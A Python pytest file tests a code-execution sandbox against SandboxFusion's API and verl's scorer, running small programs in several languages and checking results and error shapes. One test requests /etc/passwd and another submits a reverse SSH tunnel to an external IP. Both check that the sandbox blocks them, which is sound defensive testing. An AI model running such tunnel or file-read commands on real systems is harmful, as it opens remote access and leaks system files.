"""SandboxFusion's API against a real `corral serve`: verl's own scorer (`_process_single_case`,
vendored from verl) and the published `sandbox-fusion` client."""

from __future__ import annotations

import base64
import importlib.util
import shutil

import httpx
import pytest

from tests.clients.conftest import thirdparty

CPP = '#include <iostream>\nint main(){int a,b;std::cin>>a>>b;std::cout<<a+b<<"\\n";}\n'
NODE = "const l=require('fs').readFileSync(0,'utf8').trim().split(' ').map(Number);console.log(l[0]+l[1]);\n"
JAVA = ("import java.util.*;\npublic class Main{public static void main(String[] a){"
        "Scanner s=new Scanner(System.in);System.out.println(s.nextInt()+s.nextInt());}}\n")  # fmt: skip
GO = 'package main\nimport "fmt"\nfunc main(){var a,b int;fmt.Scan(&a,&b);fmt.Println(a+b)}\n'
PYTEST_OK = "def test_add():\n    assert 1 + 1 == 2\n"
PYTEST_BAD = "def test_add():\n    assert 1 + 1 == 3\n"


def _verl():
    path = thirdparty("sf_utils.py")
    spec = importlib.util.spec_from_file_location("verl_sf_utils", path)
    mod = importlib.util.module_from_spec(spec)
    assert spec.loader is not None
    spec.loader.exec_module(mod)
    mod.MAX_RETRIES = 1
    return mod


def _score(url: str, language: str, code: str, stdin: str | None, expected: str | None,
           **kw: object) -> tuple[object, dict]:  # fmt: skip
    return _verl()._process_single_case(0, stdin, expected, f"{url}/run_code", code, 10, 512,
                                        language, **kw)  # fmt: skip


def _needs(*tools: str) -> None:
    missing = [t for t in tools if shutil.which(t) is None]
    if missing:
        pytest.skip(f"toolchain not on this host: {', '.join(missing)}")


def test_verl_python_scores(url: str) -> None:
    assert _score(url, "python", "print(sum(map(int, input().split())))", "2 3", "5")[0] is True
    assert _score(url, "python", "print(6)", "2 3", "5")[0] is False
    status, meta = _score(url, "python", "raise SystemExit(3)", None, "5")
    assert status == -2 and meta["status"] == "runtime_error"
    # verl's function-call wrapper (fn_name) with JSON arguments on stdin
    status, _ = _score(url, "python", "def add(a, b):\n    return a + b\n", "2\n3", "5",
                       fn_name="add")  # fmt: skip
    assert status is True
    status, meta = _score(url, "python", "import numpy; print(numpy.int64(5))", None, "5")
    assert status is True or meta["status"] == "runtime_error" and "numpy" in meta["stderr"]


@pytest.mark.parametrize(
    ("language", "code", "tools"),
    [("cpp", CPP, ("g++",)), ("nodejs", NODE, ("node",)), ("java", JAVA, ("javac", "java"))],
)
def test_verl_compiled_and_node(url: str, language: str, code: str, tools: tuple[str, ...]) -> None:
    _needs(*tools)
    assert _score(url, language, code, "2 3", "5")[0] is True
    assert _score(url, language, code, "2 2", "5")[0] is False
    status, meta = _score(url, language, code + "}\n", "2 3", "5")
    if language in ("cpp", "java"):
        assert status == -4 and meta["status"] == "compile_error"


def test_verl_go_scores_or_sandbox_error(url: str) -> None:
    status, meta = _score(url, "go", GO, "2 3", "5")
    if shutil.which("go"):
        assert status is True
    else:  # no toolchain: SandboxFusion's error shape, which verl scores -1
        assert status == -1 and meta["status"] == "sandbox_error"
        assert meta["api_response"]["status"] == "SandboxError"
        assert "go" in meta["api_response"]["message"]


def test_verl_pytest(url: str) -> None:
    status, meta = _score(url, "pytest", PYTEST_OK, None, None)
    if meta["api_response"]["status"] == "SandboxError":
        pytest.skip("the host python has no pytest")
    assert status is True
    status, meta = _score(url, "pytest", PYTEST_BAD, None, None)
    assert status == -2 and "1 failed" in meta["stdout"]


def test_every_language_answers_in_sandboxfusion_shape(url: str) -> None:
    langs = ["python", "python2", "cpp", "nodejs", "go", "go_test", "java", "php", "csharp", "bash",
             "typescript", "sql", "rust", "cuda", "lua", "R", "perl", "D_ut", "ruby", "scala",
             "julia", "pytest", "junit", "kotlin_script", "jest", "verilog", "python_gpu", "lean",
             "swift", "racket"]  # fmt: skip
    with httpx.Client(timeout=60, trust_env=False) as c:
        for lang in langs:
            body = c.post(f"{url}/run_code", json={"code": "", "language": lang}).json()
            assert body["status"] in ("Success", "Failed", "SandboxError"), (lang, body)
            if body["status"] == "SandboxError":
                assert body["message"] and body["run_result"] is None, (lang, body)


def test_files_absolute_paths_and_fetch(url: str) -> None:
    files = {
        "/tmp/in.txt": base64.b64encode(b"21").decode(),
        "data/x": base64.b64encode(b"x").decode(),
    }
    code = "n=int(open('/tmp/in.txt').read()); open('/tmp/out.txt','w').write(str(n*2))"
    body = httpx.post(f"{url}/run_code", json={
        "code": code, "language": "python", "files": files,
        "fetch_files": ["/tmp/out.txt", "data/x", "/etc/passwd"]}, timeout=60).json()  # fmt: skip
    assert body["status"] == "Success", body
    assert base64.b64decode(body["files"]["/tmp/out.txt"]) == b"42"
    assert base64.b64decode(body["files"]["data/x"]) == b"x"
    assert "/etc/passwd" not in body["files"] and "/etc/passwd" in body["message"]


def test_sandbox_fusion_client_run_code_and_jupyter(url: str) -> None:
    sf = pytest.importorskip("sandbox_fusion", reason="the clients extra is not installed")
    res = sf.run_code(sf.RunCodeRequest(code="print(40 + 2)", language="python"),
                      endpoint=url, max_attempts=1)  # fmt: skip
    assert res.status == sf.RunStatus.Success and res.run_result.stdout == "42\n"
    jr = sf.run_jupyter(sf.RunJupyterRequest(cells=["a = 123", "a", "print(a)",
                                                    "raise RuntimeError('boom')", "a + 1"]),
                        endpoint=url, max_attempts=1)  # fmt: skip
    assert jr.status == sf.RunStatus.Success
    assert jr.cells[1].display == [{"text/plain": "123"}] and jr.cells[2].stdout == "123\n"
    assert (
        jr.cells[3].error[0]["ename"] == "RuntimeError"
        and jr.cells[4].display[0]["text/plain"] == "124"
    )


def test_a_rome_act_in_run_code_is_reported(url: str) -> None:
    body = httpx.post(f"{url}/run_code", json={
        "code": "ssh -R 8080:localhost:22 u@203.0.113.7", "language": "bash"}, timeout=60).json()  # fmt: skip
    assert body["status"] == "Failed" and body["safety"]["terminated"] is True
    assert "episode ended by corral's policy: tunnel" in body["message"]
